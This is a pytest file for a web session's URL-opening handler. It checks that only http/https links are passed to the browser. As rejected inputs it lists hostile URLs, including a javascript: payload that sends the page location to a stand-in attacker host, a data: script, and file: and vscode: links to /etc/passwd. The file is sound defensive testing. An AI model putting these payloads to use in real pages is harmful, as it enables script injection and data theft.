"""What a session's app may have the browser do, without a server or an app process."""

from __future__ import annotations

import asyncio
import json
from typing import Any

import pytest
from textual_serve.download_manager import DownloadManager

from queuectl.web.session import AppSession


class _Socket:
    """Records what would be sent to the page."""

    def __init__(self) -> None:
        self.sent: list[Any] = []

    async def send_str(self, text: str) -> None:
        self.sent.append(json.loads(text))


def _opened(url: str) -> list[Any]:
    socket = _Socket()
    session = AppSession(
        socket,  # type: ignore[arg-type]
        command=["true"],
        env={},
        downloads=DownloadManager(),
        redact=lambda text: text,
    )
    asyncio.run(session._on_meta({"type": "open_url", "url": url, "new_tab": True}))
    return socket.sent


@pytest.mark.parametrize("url", ["https://example.com/x", "HTTP://127.0.0.1:8000/"])
def test_a_web_link_is_opened_in_the_browser(url):
    assert _opened(url) == [["open_url", {"url": url, "new_tab": True}]]


@pytest.mark.parametrize(
    "url",
    [
        "javascript:fetch('//evil.example/?'+location)",
        " JavaScript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "vscode://file/etc/passwd",
        "//evil.example/",
    ],
)
def test_anything_else_is_not_handed_to_the_page(url):
    assert _opened(url) == []
